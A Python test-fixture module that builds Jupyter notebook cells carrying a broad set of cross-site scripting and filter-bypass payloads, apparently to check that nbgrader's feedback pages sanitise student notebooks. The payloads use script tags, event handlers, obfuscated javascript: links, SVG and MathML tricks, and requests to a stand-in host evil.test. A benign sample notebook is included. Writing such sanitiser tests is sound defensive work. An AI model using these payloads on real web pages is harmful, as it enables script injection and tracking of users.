"""Notebook cells that try to run JavaScript or to send a request when a page shows them, and an
honest notebook.

Each payload calls `hit(/<name>/.source)`, which needs no quotes, or asks http://evil.test/<name>
for something. `fires` says whether it does so in nbgrader's stock feedback or formgrader page; the
others aim at other parsers, or at a careless cleaner, or make nbconvert itself give up.
"""

from __future__ import annotations

import base64
import struct
import zlib
from dataclasses import dataclass

from nbformat import from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell


@dataclass(frozen=True)
class Payload:
    name: str
    cell: dict
    fires: bool = True


def png(width: int = 8, height: int = 8) -> str:
    """A small grey PNG, base64."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    rows = zlib.compress((b"\0" + b"\x80" * width) * height)
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return base64.b64encode(data).decode()


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def output(kind: str = "display_data", **content) -> dict:
    """A code cell with one output. It may be malformed on purpose, so it is built by hand."""
    made = new_code_cell("answer = 1", execution_count=1)
    if kind in ("display_data", "execute_result"):
        made.outputs = [new_output(kind, **content)]
    else:
        made.outputs = [new_output("stream", text="")]
        made.outputs[0].update(content, output_type=kind)
    return made


def shown(mime: str, data, **metadata) -> dict:
    return output(data={mime: data, "text/plain": "plain"}, metadata=metadata)


def markdown(text: str, **more) -> dict:
    return new_markdown_cell(text, **more)


SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{0}\"><script>{0}</script></svg>"


def payloads() -> list[Payload]:
    made = []

    def add(name: str, build, fires: bool = True) -> None:
        made.append(
            Payload(name, build(f"hit(/{name}/.source)", f"http://evil.test/{name}"), fires)
        )

    # Outputs, by type
    add("html-script", lambda js, url: shown("text/html", f"<script>{js}</script>"))
    add("html-onerror", lambda js, url: shown("text/html", f'<img src=x onerror="{js}">'))
    add("html-svg", lambda js, url: shown("text/html", SVG.format(js)))
    add(
        "html-iframe",
        lambda js, url: shown(
            "text/html", f'<iframe srcdoc="<script>parent.{js}</script>"></iframe>'
        ),
    )
    add(
        "html-js-link",
        lambda js, url: shown("text/html", f'<a href="java&#10;script:{js}">marks</a>'),
    )
    add(
        "html-form",
        lambda js, url: shown(
            "text/html", f'<form action="javascript:{js}"><button>x</button></form>'
        ),
    )
    add(
        "html-refresh",
        lambda js, url: shown("text/html", f'<meta http-equiv="refresh" content="0;url={url}">'),
    )
    add(
        "html-style",
        lambda js, url: shown("text/html", f"<style>body{{background:url({url})}}</style>"),
    )
    add(
        "html-style-attribute",
        lambda js, url: shown("text/html", f'<p style="background:url({url})">x</p>'),
    )
    add("html-pixel", lambda js, url: shown("text/html", f'<img src="{url}">'))
    add("html-video", lambda js, url: shown("text/html", f'<video src=x onerror="{js}"></video>'))
    add(
        "html-details",
        lambda js, url: shown("text/html", f'<details open ontoggle="{js}">x</details>'),
    )
    add(
        "html-mathml",
        lambda js, url: shown("text/html", f"<math><mtext><img src=x onerror={js}></mtext></math>"),
    )
    add(
        "html-mutation",
        lambda js, url: shown(
            "text/html", f'<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>'
        ),
        False,
    )
    add(
        "html-svg-style",
        lambda js, url: shown("text/html", f"<svg><style><img src=x onerror={js}></style></svg>"),
    )
    add(
        "html-svg-data",
        lambda js, url: shown("text/html", f'<img src="data:image/svg+xml,{SVG.format(js)}">'),
        False,
    )
    add(
        "html-object",
        lambda js, url: shown("text/html", f'<object data="{url}"></object><embed src="{url}">'),
    )
    add("html-link", lambda js, url: shown("text/html", f'<link rel="stylesheet" href="{url}">'))
    add("javascript", lambda js, url: shown("application/javascript", js))
    add("svg", lambda js, url: shown("image/svg+xml", SVG.format(js)), False)
    add("markdown-output", lambda js, url: shown("text/markdown", f"<img src=x onerror={js}>"))
    add(
        "latex-output",
        lambda js, url: shown("text/latex", f"$\\href{{javascript:{js}}}{{x}}$"),
        False,
    )
    add(
        "mermaid-output",
        lambda js, url: shown("text/vnd.mermaid", f"</pre><script>{js}</script>"),
        False,
    )
    add(
        "widget",
        lambda js, url: shown("application/vnd.jupyter.widget-view+json", {"x": f"</script>{js}"}),
        False,
    )
    add("png-breakout", lambda js, url: shown("image/png", f'x" onerror="{js}'), False)
    add("png-is-svg", lambda js, url: shown("image/png", b64(SVG.format(js))), False)
    width = "1 onerror={} onload={}"
    add("png-width", lambda js, url: shown("image/png", png(), width=width.format(js, js)))
    add(
        "png-height",
        lambda js, url: shown(
            "image/png", png(), **{"image/png": {"height": width.format(js, js)}}
        ),
    )
    add("png-alt", lambda js, url: shown("image/png", png(), alt=f'"><script>{js}</script>'), False)
    add("png-files", lambda js, url: shown("image/png", png(), filenames={"image/png": url}))
    add(
        "isolated",
        lambda js, url: shown(
            "text/html", f"<script>parent.{js}</script>", **{"text/html": {"isolated": 1}}
        ),
        False,
    )
    add(
        "stream",
        lambda js, url: output("stream", name="stdout", text=f"<script>{js}</script>"),
        False,
    )
    add(
        "stream-name",
        lambda js, url: output("stream", name=f"<script>{js}</script>", text="x"),
        False,
    )
    add(
        "error",
        lambda js, url: output(
            "error", ename="E", evalue="v", traceback=[f"\x1b[1m<script>{js}</script>"]
        ),
        False,
    )
    add(
        "hyperlink",
        lambda js, url: output(
            "stream", name="stdout", text=f"\x1b]8;;javascript:{js}\x07x\x1b]8;;\x07"
        ),
        False,
    )

    # Markdown
    for name, text in {
        "md-onerror": "<img src=x onerror={js}>",
        "md-block": "<div>\n\n<script>{js}</script>\n\n</div>",
        "md-svg": "<svg onload={js}>",
        "md-iframe": '<iframe srcdoc="<script>parent.{js}</script>">',
        "md-refresh": '<meta http-equiv=refresh content="0;url={url}">',
        "md-style": "<style>body{{background:url({url})}}</style>",
        "md-newline-tag": "<img\nsrc=x\nonerror={js}>",
        "md-pixel": "![nothing]({url})",
        "md-pixel-reference": "![nothing][p]\n\n[p]: {url}",
        "md-pixel-space": "![a](attachment:a b.png)\n\n[a]: {url}",
        "md-link": "[marks](javascript:{js})",
        "md-link-entity": "[marks](&#106;ava&#x73;cript&colon;{js})",
        "md-link-angle": "[marks](<javascript:{js}>)",
        "md-link-reference": "[marks][r]\n\n[r]: javascript:{js}",
        "md-link-files": "[marks](files/javascript:{js})",
        "md-link-escaped": "[marks](javascript\\:{js})",
        "md-autolink": "<javascript:{js}>",
        "md-table": "| a | b |\n|---|---|\n| <img src=x onerror={js}> | 2 |",
        "md-heading": "# <img src=x onerror={js}>",
        "md-mermaid": "```mermaid\n</pre><img src=x onerror={js}>\n```",
        "md-comment": "<!-- --><script>{js}</script>",
    }.items():
        add(name, lambda js, url, text=text: markdown(text.format(js=js, url=url)))
    for name, text in {
        "md-entity-tag": "&lt;img src=x onerror={js}&gt;",
        "md-double-entity": "&amp;lt;img src=x onerror={js}&amp;gt;",
        "md-link-newline": "[marks](java\nscript:{js})",
        "md-link-tab": "[marks](<java&Tab;script:{js}>)",
        "md-link-percent": "[marks](%6aavascript%3A{js})",
        "md-link-data": "[marks](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "md-link-vbscript": "[marks](VbScript:{js})",
        "md-title": '[marks](https://example.org "\\"><img src=x onerror={js}>")',
        "md-fence": "```html\n<img src=x onerror={js}>\n```",
        "md-fence-info": '```"><img/src=x/onerror={js}>\nx\n```',
        "md-code": "`<img src=x onerror={js}>`",
        "md-math": "$<img src=x onerror={js}>$ and $$<script>{js}</script>$$",
        "md-environment": "\\begin{{align}}<img src=x onerror={js}>\\end{{align}}",
        "md-href": "$\\href{{javascript:{js}}}{{marks}}$ $\\unicode{{x3c}}$ "
        "$\\require{{html}}\\style{{x}}{{y}}$",
        "md-cdata": "<![CDATA[<img src=x onerror={js}>]]>",
        "md-alt": "![<img src=x onerror={js}>](attachment:no.png)",
    }.items():
        # Some of these break nbconvert itself (a missing attachment), which is reason enough to
        # keep them out.
        add(name, lambda js, url, text=text: markdown(text.format(js=js, url=url)), False)
    svg = {"a.svg": {"image/svg+xml": b64(SVG.format("hit('attachment')"))}}
    add("attachment", lambda js, url: markdown("![a](attachment:a.svg)", attachments=svg), False)
    add(
        "attachment-mime",
        lambda js, url: markdown(
            "![a](attachment:a.png)", attachments={"a.png": {f'x" onerror="{js}"': "x"}}
        ),
        False,
    )

    # Elsewhere in a cell
    add(
        "raw",
        lambda js, url: new_raw_cell(
            f"<script>{js}</script>", metadata={"raw_mimetype": "text/html"}
        ),
        False,
    )
    add("source", lambda js, url: new_code_cell(f"</pre><script>{js}</script>"), False)
    add("source-magic", lambda js, url: new_code_cell(f"%%html\n<img src=x onerror={js}>"), False)

    def with_count(js, url):
        return {**new_code_cell("x"), "execution_count": f"<script>{js}</script>"}

    add("execution-count", with_count, False)
    add(
        "tags",
        lambda js, url: new_code_cell("x", metadata={"tags": [f'"><script>{js}</script>']}),
        False,
    )
    add("cell-id", lambda js, url: {**new_code_cell("x"), "id": f'"><script>{js}</script>'}, False)
    return made


def notebook(cells: list) -> dict:
    """A notebook that nobody has validated."""
    made = new_notebook(metadata={"language_info": {"name": "python"}})
    made.cells = [from_dict(cell) for cell in cells]
    return made


HONEST = r"""## What I observe

Test accuracy is **97.0 %** for the kernel and *93 %* for the net, so 93 < 97. See `if a <b: return x` and
<https://arxiv.org/abs/1901.08584>, or [the paper](https://arxiv.org/abs/1806.07572 "NTK").

| protocol | accuracy |
|---|---:|
| lazy | 0.97 |
| document | 0.93 |

1. the step is too large: $\eta\,\frac{2\lambda_{\max}}{n} > 2$
2. $f_0 \ne 0$, and $0<u<1$

$$k(x,x') = \frac{\|x\|\|x'\|}{2\pi}\left(2u(\pi-\theta)+\sqrt{1-u^2}\right)$$

\begin{align} a &= b \\ c &\leq d \end{align}

```python
def k(u):
    return u if 0 <u< 1 else 0  # data: float64
```

> So the network left the kernel regime & its ReLUs died.

![my picture](attachment:picture.png)
"""


def honest_notebook(verdict) -> dict:
    """What a good submission looks like once it is marked."""
    table = (
        '<div>\n<style scoped>\n .dataframe td {vertical-align: top}\n</style>\n<table border="1" '
        'class="dataframe">'
        '<thead><tr style="text-align: right;"><th></th><th>loss</th></tr></thead>'
        "<tbody><tr><th>0</th><td>0.25</td></tr><tr><th>1</th><td>0.125</td></tr></tbody></table>\n</div>"
    )
    figure = new_output(
        "display_data",
        data={"image/png": png(240, 120), "text/plain": "<Figure size 240x120>"},
        metadata={"image/png": {"width": 240, "height": 120}, "alt": "A grey rectangle"},
    )
    code = new_code_cell(
        'losses = train(net, loader)\nprint(f"{losses[-1]:.3g}")', execution_count=3
    )
    code.outputs = [
        new_output(
            "stream", name="stdout", text=" 10 %\r 50 %\r100 %\nNumber of gradient steps 1400\n"
        ),
        new_output("stream", name="stdout", text="\x1b[32m1.5e-4\x1b[0m is < 3e-3\n"),
        figure,
        new_output(
            "execute_result",
            data={"text/html": table, "text/plain": "   loss\n0  0.25"},
            execution_count=3,
        ),
    ]
    failed = new_code_cell("1 / 0", execution_count=4)
    failed.outputs = [
        new_output(
            "error",
            ename="ZeroDivisionError",
            evalue="division by zero",
            traceback=["\x1b[31mZeroDivisionError\x1b[39m: division by zero"],
        )
    ]
    test = new_code_cell("# Hidden tests", execution_count=5)
    test.outputs = [
        new_output("display_data", data=verdict.mimebundle()),
        new_output("execute_result", data={"text/plain": repr(verdict.points)}, execution_count=5),
    ]
    answer = markdown(HONEST, attachments={"picture.png": {"image/png": png(60, 30)}})
    return notebook([code, failed, test, answer])
